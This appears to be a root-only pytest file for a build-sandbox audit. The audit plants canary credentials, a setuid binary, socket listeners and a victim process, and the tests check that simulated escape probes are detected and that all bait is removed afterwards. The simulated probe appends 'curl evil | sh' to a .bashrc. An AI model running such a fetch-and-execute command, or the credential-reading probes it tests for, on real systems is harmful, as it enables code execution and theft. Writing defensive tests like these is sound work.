"""The audit's bait: planted as promised, observed from outside, and removed without a trace."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from buildjail.audit import bait as bait_module
from buildjail.audit.bait import Bait, BaitError, observe
from buildjail.audit.vectors import CONFIG_KEYS
from conftest import NONROOT_UID, SYSTEM_PYTHON, is_root

pytestmark = [pytest.mark.root,
              pytest.mark.skipif(not is_root(), reason="the audit plants its bait as root")]

K8S_TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")


def _a_real_k8s_token() -> str | None:
    """The host's own token path, if it has one that is not some audit's bait."""
    try:
        head = K8S_TOKEN.read_text(errors="replace")[:40]
    except OSError:
        return None
    return None if head.startswith("eyJhbGciOiJSUzI1NiJ9.bj-audit-") else str(K8S_TOKEN)


_HOSTS_OWN_K8S_TOKEN = _a_real_k8s_token()

def _names(directory: str, tag: str) -> list[str] | None:
    """The names of this bait in a directory (None if it is missing): only what it planted.

    Everything the bait plants carries its tag; the rest of the directory is the host's and
    other processes', which a busy host changes at any time.
    """
    try:
        names = os.listdir(directory)
    except FileNotFoundError:
        return None
    return sorted(name for name in names if tag in name)


def _sysv_keys() -> set[int]:
    with open("/proc/sysvipc/shm") as stream:
        return {int(line.split()[0]) for line in stream.read().splitlines()[1:] if line.strip()}


def _own_sockets() -> set[str]:
    """The inodes of the sockets this process holds (the bait's listeners among them)."""
    found = set()
    for fd in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{fd}")
            if target.startswith("socket:["):
                found.add(target[len("socket:["):-1])
    return found


def _own_listening_ports(table: str) -> set[int]:
    """The ports this process listens on (TCP) or is bound to (UDP): only its own sockets,
    since anything else on the host may take a port the bait has given back."""
    ports = set()
    own = _own_sockets()
    with open(table) as stream:
        for line in stream.read().splitlines()[1:]:
            fields = line.split()
            if (table.endswith("udp") or fields[3] == "0A") and fields[9] in own:
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


def _abstract_names(tag: str) -> set[str]:
    with open("/proc/net/unix") as stream:
        return {line.split()[-1] for line in stream if f"@bj-audit-{tag}" in line}


def _k8s_token_of(tag: str) -> bool:
    """Whether the token bait at the fixed path is *tag*'s (another run's may be there)."""
    try:
        return f"bj-audit-{tag}-".encode() in K8S_TOKEN.read_bytes()
    except OSError:
        return False


def _sleepers(tag: str) -> set[int]:
    """The bait's victim processes of *tag*: a sleep with the tag's canary in its environment."""
    found = set()
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as stream:
                if stream.read() != b"/bin/sleep\x003600\x00":
                    continue
            with open(f"/proc/{name}/environ", "rb") as stream:
                if f"bj-audit-{tag}".encode() in stream.read():
                    found.add(int(name))
        except (OSError, ValueError):
            continue
    return found


def snapshot(tag: str) -> dict[str, Any]:
    """What the bait touches on the host, for a before/after comparison."""
    purelib = str(bait_module._base_purelib())
    return {
        "home": _names("/home", tag),
        "run_secrets": _names("/run/secrets", tag),
        "k8s_token": _k8s_token_of(tag),
        "dev_shm": _names("/dev/shm", tag),
        "tmp": sorted(name for name in os.listdir("/tmp") if f"bj-audit-{tag}" in name),
        "etc": _names("/etc", tag),
        "cron.d": _names("/etc/cron.d", tag),
        "opt": _names("/opt", tag), "srv": _names("/srv", tag),
        "var_cache": _names("/var/cache", tag),
        "passwd": [line for line in Path("/etc/passwd").read_text().splitlines()
                   if tag in line],
        "purelib": sorted(name for name in os.listdir(purelib)
                          if tag in name or tag.replace("-", "_") in name),
        "abstract": _abstract_names(tag),
        "sleepers": _sleepers(tag),
        "sigterm": signal.getsignal(signal.SIGTERM),
    }


def _gone(config: dict[str, Any], bait: Bait) -> None:
    """The bait's own sockets, IPC key, victim and paths are gone."""
    assert config["tcp_port"] not in _own_listening_ports("/proc/net/tcp")
    assert config["udp_port"] not in _own_listening_ports("/proc/net/udp")
    assert config["sysv_shm_key"] not in _sysv_keys()
    assert not os.path.exists(f"/proc/{config['victim_pid']}")
    assert not _k8s_token_of(bait.tag)  # its fixed path may hold another run's token now
    for path in [*config["secrets"].values(), *config["writes"].values(), config["home"],
                 config["posix_shm"], config["setuid_binary"], config["host_tmp_marker"]]:
        if path not in ("/etc/shadow", str(K8S_TOKEN)) and os.path.isabs(path):
            assert not os.path.lexists(path), path
    assert bait.cleanup_errors == []


@pytest.fixture
def tag() -> str:
    """A tag unique to this test."""
    return f"t{os.getpid()}-{os.urandom(3).hex()}"


@pytest.fixture
def workdir(tmp_path: Path) -> Iterator[Path]:
    """An audit work directory the probes could reach (under a traversable parent)."""
    tmp_path.chmod(0o755)
    yield tmp_path / "audit"


def _simulate_probes(config: dict[str, Any], build_env: Path) -> dict[str, dict[str, Any]]:
    """Do what the probes do under the ``none`` profile: write every ``writes`` path."""
    for vector, path in config["writes"].items():
        target = build_env / path if vector == "pth_build_env" else Path(path)
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text("# written by a simulated probe\n")
    with open(Path(config["home"]) / ".bashrc", "a") as stream:
        stream.write("curl evil | sh\n")
    detail = f"wrote {build_env / config['writes']['pth_build_env']}"
    return {"pth_build_env": {"outcome": "succeeded", "detail": detail}}


def test_plants_every_piece_of_bait(workdir: Path, tag: str) -> None:
    with Bait(workdir, tag) as bait:
        config = bait.config(workdir / "project")
        assert set(config) == set(CONFIG_KEYS) - {"build_env_site"}
        assert bait.unavailable == {}
        home = Path(config["home"])
        assert stat.S_IMODE(home.stat().st_mode) == 0o700
        assert stat.S_IMODE((home / ".netrc").stat().st_mode) == 0o600
        assert stat.S_IMODE((home / ".ssh" / "id_ed25519").stat().st_mode) == 0o600
        for name in (".aws/credentials", ".docker/config.json", ".bashrc"):
            assert (home / name).is_file()
        other = Path(config["secrets"]["cred_other_user"])
        assert stat.S_IMODE(other.stat().st_mode) == 0o644
        assert bait.canaries["cred_other_user"] in other.read_text()
        assert bait.canaries["cred_run_secrets"] in Path(
            config["secrets"]["cred_run_secrets"]).read_text()
        assert Path(config["secrets"]["cred_k8s_token"]).is_file()
        assert _HOSTS_OWN_K8S_TOKEN is not None or _k8s_token_of(tag)  # the check works
        setuid = Path(config["setuid_binary"]).stat()
        assert (setuid.st_uid, stat.S_IMODE(setuid.st_mode)) == (0, 0o4755)
        assert stat.S_IMODE(workdir.stat().st_mode) == 0o755
        environ = Path(f"/proc/{config['victim_pid']}/environ").read_bytes()
        assert f"VICTIM_SECRET={bait.canaries['victim']}".encode() in environ
        assert config["sysv_shm_key"] in _sysv_keys()
        assert config["tcp_port"] in _own_listening_ports("/proc/net/tcp")  # the check works
        assert config["udp_port"] in _own_listening_ports("/proc/net/udp")
        assert Path(config["posix_shm"]).is_file() and Path(config["host_tmp_marker"]).is_file()
        env = bait.env()
        assert env["HOME"] == config["home"]
        assert all(env[name] for name in config["env_tokens"])
        for vector, path in config["writes"].items():
            assert vector == "pth_build_env" or not os.path.lexists(path)
        assert Path(config["writes"]["other_build"]).parent.is_dir()
        assert Path(config["writes"]["shared_cache"]).parent.is_dir()
    _gone(config, bait)


@pytest.mark.skipif(_HOSTS_OWN_K8S_TOKEN is not None, reason="the host has a real token")
@pytest.mark.parametrize("owner_alive", [False, True])
def test_a_token_left_by_a_killed_audit_is_replaced(workdir: Path, tag: str,
                                                     owner_alive: bool) -> None:
    """An audit killed by SIGKILL cannot clean up: the next one clears its stale token bait,
    but never the bait of an audit still running."""
    if owner_alive:
        owner = subprocess.Popen(["/bin/sleep", "60"])
    else:
        owner = subprocess.Popen(["/bin/true"])
        owner.wait()
    # Every missing directory above it (a fresh host has no /run/secrets either).
    created = [path for path in reversed(K8S_TOKEN.parents) if not path.exists()]
    for path in created:
        path.mkdir(exist_ok=True)  # another test may make /run/secrets meanwhile
    stale = f"eyJhbGciOiJSUzI1NiJ9.bj-audit-t{owner.pid}-0-cred_k8s_token-0123"
    K8S_TOKEN.write_text(stale)
    try:
        with Bait(workdir, tag) as bait:
            planted = K8S_TOKEN.read_text()
            config = bait.config(workdir / "project")
        if owner_alive:
            assert planted == stale and config["secrets"]["cred_k8s_token"] == str(K8S_TOKEN)
            assert K8S_TOKEN.read_text() == stale
        else:
            assert planted != stale and f"bj-audit-{tag}-cred_k8s_token-" in planted
            assert not K8S_TOKEN.exists()
    finally:
        owner.kill()
        owner.wait()
        K8S_TOKEN.unlink(missing_ok=True)
        for path in reversed(created):
            with contextlib.suppress(OSError):
                path.rmdir()


def _end(ending: str) -> None:
    """Leave the with-block the way the test asks."""
    if ending == "exception":
        raise RuntimeError("boom")
    if ending == "keyboard_interrupt":
        raise KeyboardInterrupt
    if ending == "sigterm":
        os.kill(os.getpid(), signal.SIGTERM)
        time.sleep(5)  # the handler raises KeyboardInterrupt long before


@pytest.mark.parametrize("ending", ["normal", "exception", "keyboard_interrupt", "sigterm"])
def test_leaves_the_host_as_it_was(workdir: Path, tag: str, ending: str) -> None:
    before = snapshot(tag)
    build_env = workdir.parent / "build-env-site"
    expected: dict[str, type[BaseException]] = {
        "exception": RuntimeError, "keyboard_interrupt": KeyboardInterrupt,
        "sigterm": KeyboardInterrupt}
    outcome = pytest.raises(expected[ending]) if ending in expected else contextlib.nullcontext()
    with outcome, Bait(workdir, tag) as bait:
        config = bait.config(workdir / "project")
        _simulate_probes(config, build_env)
        bait.add_trace(build_env / config["writes"]["pth_build_env"])
        assert snapshot(tag) != before
        _end(ending)
    assert snapshot(tag) == before
    assert not (build_env / config["writes"]["pth_build_env"]).exists()
    _gone(config, bait)
    bait.remove()  # idempotent
    assert bait.cleanup_errors == []


def test_listeners_count_real_contacts(workdir: Path, tag: str) -> None:
    with Bait(workdir, tag) as bait:
        config = bait.config(workdir / "project")
        host, port = config["host_address"], config["tcp_port"]
        for address in {"127.0.0.1", host}:
            with socket.create_connection((address, port), timeout=5):
                pass
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"exfiltrated", (host, config["udp_port"]))
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
            unix.connect("\0" + config["abstract_socket"])
        expected_tcp = len({"127.0.0.1", host})
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and (
                bait.tcp_connections < expected_tcp or not bait.udp_datagrams
                or not bait.abstract_connections):
            time.sleep(0.05)
        assert (bait.tcp_connections, bait.udp_datagrams, bait.abstract_connections) == (
            expected_tcp, 1, 1)
        evidence = observe(bait, config, {})
        assert "1 connection(s) on 127.0.0.1" in evidence["host_loopback"] or host == "127.0.0.1"
        assert "1 datagram(s)" in evidence["net_udp"]
        assert "1 connection(s)" in evidence["abstract_socket"]


def test_observe_sees_writes_a_daemon_and_the_victim(workdir: Path, tag: str) -> None:
    with Bait(workdir, tag) as bait:
        project = workdir.parent / "project"
        project.mkdir()
        config = bait.config(project)
        quiet = observe(bait, config, {})
        assert quiet["daemon"].startswith("no heartbeat file")
        assert all(quiet[vector].endswith("absent") for vector in config["writes"]
                   if vector != "pth_build_env")
        assert "alive and running" in quiet["signal"]
        assert quiet["shell_profile"] == "~/.bashrc unchanged"
        results = _simulate_probes(config, workdir.parent / "build-env")
        daemon = subprocess.Popen(
            [sys.executable, "-c", "import time\nwhile True:\n"
             " open('heartbeat.txt', 'a').write('beat\\n'); time.sleep(0.1)"],
            cwd=project, start_new_session=True)
        os.kill(config["victim_pid"], signal.SIGSTOP)
        time.sleep(0.3)
        loud = observe(bait, config, results)
        assert daemon.wait(timeout=5) == -signal.SIGKILL
        assert "still growing" in loud["daemon"] and str(daemon.pid) in loud["daemon"]
        assert all(loud[vector].endswith("exists") for vector in config["writes"])
        assert "stopped" in loud["signal"]
        assert "changed" in loud["shell_profile"]
    _gone(config, bait)
    assert not (workdir.parent / "build-env" / config["writes"]["pth_build_env"]).exists()


@pytest.mark.parametrize(("mode", "kept"), [(0o6755, True), (0o4755, True), (0o2755, True),
                                            (0o755, False), (0o1755, False)])
def test_observe_reports_and_removes_a_set_id_file_left_in_the_project(
        workdir: Path, tag: str, mode: int, kept: bool) -> None:
    """The caller must never be left holding a set-id program: seen, then removed."""
    with Bait(workdir, tag) as bait:
        project = workdir.parent / "project"
        project.mkdir()
        config = bait.config(project)
        assert observe(bait, config, {})["setid_tree"].endswith("setid-left absent")
        left = Path(config["setid_left"])
        left.write_bytes(b"\x7fELF")
        left.chmod(mode)
        evidence = observe(bait, config, {})["setid_tree"]
        assert evidence.startswith(f"{left} mode {mode:04o}, uid {os.getuid()}: "), evidence
        assert evidence.endswith(": kept set-id bits" if kept else ": no set-id bit"), evidence
        assert left.exists() is not kept


def test_refuses_a_marker_path_that_exists(workdir: Path, tag: str) -> None:
    before = snapshot(tag)
    leftover = Path(f"/tmp/bj-audit-{tag}-written")
    leftover.write_text("left over")
    try:
        with pytest.raises(BaitError, match="exists already"), Bait(workdir, tag):
            pass
        assert leftover.read_text() == "left over"
    finally:
        leftover.unlink()
    assert snapshot(tag) == before
    with pytest.raises(BaitError, match="bad bait tag"):
        Bait(workdir, "../etc")


def test_as_non_root_plants_what_it_can(world_src: str, shared_dir: Path, tag: str) -> None:
    before = snapshot(tag)
    script = (
        f"import json, sys\nsys.path.insert(0, {world_src!r})\nfrom pathlib import Path\n"
        "from buildjail.audit.bait import Bait\n"
        f"with Bait(Path({str(shared_dir / 'audit')!r}), {tag!r}) as bait:\n"
        f"    config = bait.config(Path({str(shared_dir)!r}))\n"
        "print(json.dumps({'unavailable': bait.unavailable, 'config': config,"
        " 'errors': bait.cleanup_errors}))\n"
    )
    proc = subprocess.run(
        ["/usr/bin/setpriv", f"--reuid={NONROOT_UID}", f"--regid={NONROOT_UID}",
         "--clear-groups", SYSTEM_PYTHON, "-Es", "-c", script],
        capture_output=True, text=True, check=False, timeout=60,
        env={"PATH": "/usr/bin:/bin"})
    assert proc.returncode == 0, proc.stderr
    report = json.loads(proc.stdout)
    needs_root = {"cred_other_user", "cred_run_secrets", "cred_k8s_token", "setuid",
                  "view_etc", "view_system"}
    # In a Kubernetes pod the real token is the bait, root or not.
    assert set(report["unavailable"]) == needs_root - (
        {"cred_k8s_token"} if _HOSTS_OWN_K8S_TOKEN else set())
    assert report["config"]["setuid_binary"] is None
    assert report["config"]["posix_shm"] and report["config"]["sysv_shm_key"]
    assert report["errors"] == []
    assert snapshot(tag) == before
    assert not (shared_dir / "audit").exists()
